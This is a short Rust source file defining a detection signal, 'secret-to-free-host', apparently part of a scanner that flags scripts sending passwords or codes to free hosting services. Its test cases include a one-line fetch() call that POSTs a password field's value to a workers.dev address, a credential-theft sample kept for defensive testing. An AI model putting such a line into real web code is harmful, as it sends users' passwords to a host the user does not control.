//! `secret-to-free-host`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-to-free-host",
    description: "The script sends a password or code to a host where anyone can run a server.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SecretSentAbroad]), one(&[Atom::FreeHost])],
    within: 1500,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["fetch('https://a.workers.dev/l',{method:'POST',body:JSON.stringify({password:p.value})})"],
        without: &["fetch('https://a.workers.dev/l',{method:'POST',body:JSON.stringify({name:p.value})})"],
    },
};
